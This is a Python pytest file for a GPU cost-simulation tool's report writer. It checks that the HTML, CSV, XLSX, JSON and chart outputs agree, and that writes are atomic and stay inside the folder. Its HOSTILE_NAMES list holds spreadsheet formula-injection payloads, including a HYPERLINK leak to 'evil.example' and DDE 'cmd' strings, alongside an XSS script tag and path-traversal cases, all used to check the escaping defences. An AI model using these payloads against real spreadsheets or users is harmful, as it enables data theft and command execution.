"""The report folder: every file, CSV and XLSX agreeing with the JSON, charts that are real
images, markup and formulas kept as text, and writes that are atomic and stay inside."""

from __future__ import annotations

import csv
import io
import json
import os
import xml.etree.ElementTree as ET
from collections.abc import Sequence
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from costsim.domain.display import XLSX_HOURS, XLSX_USD_RATE, csv_cell, percent, usd_estimate
from costsim.report import summary_json, write_report
from costsim.report.charts import CHART_SUBJECTS, build_charts, missing_charts
from costsim.report.compare import compare_plans
from costsim.report.files import write_atomic
from costsim.report.html import report_html, template_environment
from costsim.report.tables import LEDGER_COLUMNS, Table
from costsim.report.write import csv_bytes
from costsim.sim.run_result import RunResult, simulate_scenario
from tests.report.runs import FORMULA_NAME, SCRIPT_NAME, report_scenario

CHART_SLUGS = [slug for slug, _ in CHART_SUBJECTS]
FILES = {"report.html", "summary.json", "ledger.csv", "monthly.csv", "report.xlsx"}


def _feasible(summary: dict[str, Any]) -> list[dict[str, Any]]:
    return [plan for plan in summary["plans"] if plan["feasible"]]


def test_every_file_and_chart_is_written_and_nothing_else(report_dir: Path) -> None:
    names = {p.relative_to(report_dir).as_posix() for p in report_dir.rglob("*") if p.is_file()}
    charts = {f"charts/{slug}.{ext}" for slug in CHART_SLUGS for ext in ("png", "svg")}
    assert names == FILES | charts  # no temporary file left behind


def test_summary_json_on_disk_is_the_summary(report_dir: Path,
                                             summary: dict[str, Any]) -> None:
    assert json.loads((report_dir / "summary.json").read_text(encoding="utf-8")) == summary


def test_the_ledger_csv_adds_up_to_each_plans_mean_cost_to_the_cent(
        report_dir: Path, summary: dict[str, Any]) -> None:
    with (report_dir / "ledger.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == ["plan", "phase", "pool", "gpu", "option", "category",
                             "component", "gpu_hours", "rate_usd_per_gpu_hour", "amount_usd"]
    for plan in _feasible(summary):
        total = sum(Decimal(r["amount_usd"]) for r in rows if r["plan"] == csv_cell(plan["name"]))
        assert total == Decimal(f"{plan['cost_usd']['mean']:.2f}"), plan["name"]
    assert {r["plan"] for r in rows} == {csv_cell(p["name"]) for p in _feasible(summary)}
    assert "'" + FORMULA_NAME in {r["plan"] for r in rows}  # text, not a formula


def test_the_monthly_csv_adds_up_to_each_plans_cash(report_dir: Path,
                                                    summary: dict[str, Any]) -> None:
    with (report_dir / "monthly.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for plan in _feasible(summary):
        mine = [r for r in rows if r["plan"] == csv_cell(plan["name"])]
        assert len(mine) == 18
        assert sum(Decimal(r["cash_usd"]) for r in mine) == Decimal(
            f"{plan['cash_usd']['mean']:.2f}")


def test_the_workbook_has_one_sheet_per_view_and_its_totals_equal_the_json(
        report_dir: Path, summary: dict[str, Any]) -> None:
    book = load_workbook(report_dir / "report.xlsx")
    assert book.sheetnames == ["summary", "ledger", "monthly", "assumptions"]
    plans = {plan["name"]: plan for plan in summary["plans"]}
    sheet = book["summary"]
    header = [cell.value for cell in sheet[1]]
    mean_col = header.index("Cost mean (USD)")
    for row in sheet.iter_rows(min_row=2):
        name = row[0].value
        assert isinstance(name, str)
        assert row[0].data_type == "s"
        cost = plans[name]["cost_usd"]
        assert row[mean_col].value == (cost["mean"] if cost else None)
        if cost:
            assert row[mean_col].data_type == "n"
            assert row[mean_col].number_format == "#,##0.00"
    ledger = book["ledger"]
    header = [cell.value for cell in ledger[1]]
    amount_col = header.index("Amount (USD)")
    totals: dict[str, int] = {}
    for row in ledger.iter_rows(min_row=2, values_only=True):
        amount = row[amount_col]
        assert isinstance(amount, float | int)
        totals[str(row[0])] = totals.get(str(row[0]), 0) + round(amount * 100)
    assert totals == {p["name"]: round(p["cost_usd"]["mean"] * 100) for p in _feasible(summary)}
    months = book["monthly"]
    assert months.max_row == 1 + 18 * len(_feasible(summary))
    assumptions = [row[0] for row in book["assumptions"].iter_rows(values_only=True)]
    assert "Prices used" in assumptions
    assert "Defaults used" in assumptions


def test_a_plan_named_like_a_formula_stays_text_in_the_workbook(report_dir: Path) -> None:
    book = load_workbook(report_dir / "report.xlsx")
    cells = [row[0] for row in book["ledger"].iter_rows(min_row=2)]
    formula = [cell for cell in cells if cell.value == FORMULA_NAME]
    assert formula
    assert all(cell.data_type == "s" for cell in formula)


HOSTILE_NAMES = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "-1+2", "\t=1+1", "plan, with a comma",
                 'plan "quoted"')


def test_no_csv_cell_can_run_in_a_spreadsheet_and_numbers_stay_numbers() -> None:
    """OWASP's CSV-injection rule: a text cell starting with = + - @ tab or CR gets a quote in
    front; a credit such as a residual value (-531.11) stays a number."""
    rows = tuple((name, "train", "", "H100", "owned", "residual-value", "gpu", 0.0, 0.0,
                  -531.11) for name in HOSTILE_NAMES)
    data = csv_bytes(Table("ledger", "Ledger", LEDGER_COLUMNS, rows)).decode("utf-8")
    read = list(csv.reader(io.StringIO(data, newline="")))[1:]
    assert [row[0] for row in read] == [
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0", "'-1+2", "'\t=1+1", "plan, with a comma",
        'plan "quoted"']
    assert {row[-1] for row in read} == {"-531.11"}
    for row in read:
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
        assert all(cell == "-531.11" or not cell.startswith("-") for cell in row)


def test_markup_in_scenario_text_is_escaped_in_the_html(report_dir: Path) -> None:
    html = (report_dir / "report.html").read_text(encoding="utf-8")
    assert "<script>" not in html.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert html.count('<img src="data:image/svg+xml;base64,') == len(CHART_SLUGS)


def test_the_html_shows_every_section_a_finance_review_reads(report_dir: Path,
                                                             summary: dict[str, Any]) -> None:
    html = (report_dir / "report.html").read_text(encoding="utf-8")
    for heading in ("Executive summary", "Net present value", "Charts",
                    "Each plan against the baseline", "Plans in detail", "Assumptions",
                    "Prices used", "Defaults used", "Provenance", "Glossary"):
        assert f">{heading}" in html, heading
    assert summary["scenario_sha256"] in html
    recommended = summary["recommended"]["plan"]
    assert f'Recommended plan: <span class="plan-name">{recommended}</span>' in html
    assert "8.0 % per year" in html  # NPV at the scenario's discount rate
    first_price = summary["inputs"]["prices_used"]["all-on-demand"][0]
    assert first_price["source"] in html
    assert first_price["effective_date"] in html
    assert 'class="estimate">estimate' in html  # estimated defaults are marked


def test_charts_are_valid_png_and_svg_images(report_dir: Path) -> None:
    for slug in CHART_SLUGS:
        png = (report_dir / "charts" / f"{slug}.png").read_bytes()
        assert png.startswith(b"\x89PNG\r\n\x1a\n"), slug
        assert len(png) > 10_000, slug
        root = ET.fromstring((report_dir / "charts" / f"{slug}.svg").read_bytes())
        assert root.tag == "{http://www.w3.org/2000/svg}svg", slug
        assert float(root.attrib["width"].removesuffix("pt").removesuffix("px")) > 100


def test_charts_without_data_are_left_out_and_named() -> None:
    scenario = report_scenario()
    train_only = replace(scenario, phases=scenario.phases[:2], plans=tuple(
        replace(plan, uses=plan.uses[:2]) for plan in scenario.plans[:1]))
    run = simulate_scenario(train_only, seed=0, replications=1)
    assert run.breakevens  # the plan's H100: drawn by default, left out when asked
    charts = build_charts(run, ())
    assert {chart.slug for chart in charts} == {
        "cost_by_plan", "cost_per_training_run", "cumulative_cost", "monthly_cash_flow",
        "cost_by_phase_category", "spend_split"}
    assert "break_even" in {chart.slug for chart in build_charts(run, run.breakevens)}
    html = _html(run, missing=missing_charts(charts))
    assert "serving fleet size (no plan serves)" in html
    assert "break-even of reserving and of buying" in html


def test_writes_never_leave_the_report_folder(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    outside = tmp_path / "outside.txt"
    outside.write_text("keep me", encoding="utf-8")
    (out / "summary.json").symlink_to(outside)
    write_atomic(out, "summary.json", b"{}")
    assert outside.read_text(encoding="utf-8") == "keep me"  # the link is replaced, not followed
    assert not (out / "summary.json").is_symlink()
    for relative in ("../escape.txt", str(tmp_path / "abs.txt")):
        with pytest.raises(ValueError, match="outside"):
            write_atomic(out, relative, b"x")
    (out / "charts").symlink_to(tmp_path)
    with pytest.raises(ValueError, match="outside"):
        write_atomic(out, "charts/a.png", b"x")
    assert not (tmp_path / "escape.txt").exists()
    assert not (tmp_path / "a.png").exists()


def test_an_interrupted_write_leaves_neither_a_partial_file_nor_a_temporary(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "report.html").write_bytes(b"old")

    def interrupted(_src: object, _dst: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        write_atomic(tmp_path, "report.html", b"new")
    assert [p.name for p in tmp_path.iterdir()] == ["report.html"]
    assert (tmp_path / "report.html").read_bytes() == b"old"


def test_a_report_file_is_readable_by_others(tmp_path: Path) -> None:
    path = write_atomic(tmp_path, "x.csv", b"a\n")
    assert path.stat().st_mode & 0o777 == 0o644


def test_the_markup_plan_exists_in_the_run(summary: dict[str, Any]) -> None:
    assert SCRIPT_NAME in {plan["name"] for plan in summary["plans"]}


def test_a_run_without_a_feasible_plan_still_gets_a_whole_report(tmp_path: Path) -> None:
    scenario = report_scenario()
    run = simulate_scenario(replace(scenario, plans=(scenario.plans[4],)), seed=0,
                            replications=1)
    summary = summary_json(run, generated_at="")
    written = write_report(run, summary, tmp_path, breakevens=())
    assert {p.name for p in written} == FILES  # no chart has anything to draw
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "No plan is recommended: no plan is feasible within the risk limits" in html
    assert "no layout of 1 x T4 fits llama-3-8b" in html
    with (tmp_path / "ledger.csv").open(encoding="utf-8") as handle:
        assert handle.read().splitlines() == [",".join(c.key for c in LEDGER_COLUMNS)]


def test_an_infeasible_baseline_is_said_to_be_so() -> None:
    scenario = report_scenario()
    run = simulate_scenario(replace(scenario, plans=(scenario.plans[4], scenario.plans[0])),
                            seed=0, replications=1)
    html = _html(run)
    assert "The baseline ‘one-small-card’ is infeasible" in html
    assert "not comparable (a plan is infeasible)" in html


def _html(run: RunResult, missing: Sequence[str] = ()) -> str:
    """The page of a run, without drawing its charts."""
    summary = summary_json(run, generated_at="")
    comparison = compare_plans(summary["plans"], summary["baseline"],
                               [phase.name for phase in run.scenario.phases])
    return report_html(summary, comparison, [], missing)


def test_the_page_states_the_break_even_utilizations(report_dir: Path, run: RunResult) -> None:
    html = (report_dir / "report.html").read_text(encoding="utf-8")
    assert ">Break-even utilization<" in html
    (curve,) = run.breakevens
    on_demand = next(r for r in curve.rentals if r.option.value == "on-demand")
    owning = curve.owning_break_even_utilization(on_demand)
    assert owning is not None
    assert f'<td class="num">{percent(owning)}</td>' in html
    assert on_demand.instance_type in html


def test_the_page_and_the_workbook_round_as_the_terminal(report_dir: Path,
                                                         summary: dict[str, Any]) -> None:
    """One rounding (issue 19): P(over budget) 14.5% in the terminal was "14 %" in the page;
    the ranked table's costs are whole dollars as `run` prints them; the workbook's rates show
    3 decimals and GPU-hours whole from 100 up, as the text does."""
    html = (report_dir / "report.html").read_text(encoding="utf-8")
    shares = [(plan["p_over_budget"], plan["p_deadline_missed"]) for plan in _feasible(summary)]
    environment = template_environment()
    assert environment.filters["pct"](0.145) == "14.5%" == percent(0.145)  # was "14 %"
    assert environment.filters["pct"](0.015) == "1.5%"  # was "2 %"
    assert environment.filters["estimate"](117401.38) == "$117,401"
    assert environment.filters["rate"](0.1375) == "$0.138"
    assert environment.filters["hours"](1234.56) == "1,235"
    for over, late in shares:
        for share in (over, late):
            if share is not None:
                assert f'<td class="num">{percent(share)}</td>' in html
    for plan in _feasible(summary):
        cost = plan["cost_usd"]
        assert (f'<td class="num">{usd_estimate(cost["p10"])} – {usd_estimate(cost["p90"])}'
                '</td>') in html
    book = load_workbook(report_dir / "report.xlsx")
    header = [cell.value for cell in book["ledger"][1]]
    row = next(book["ledger"].iter_rows(min_row=2))
    assert row[header.index("Rate (USD per GPU-hour)")].number_format == XLSX_USD_RATE
    assert row[header.index("GPU-hours")].number_format == XLSX_HOURS
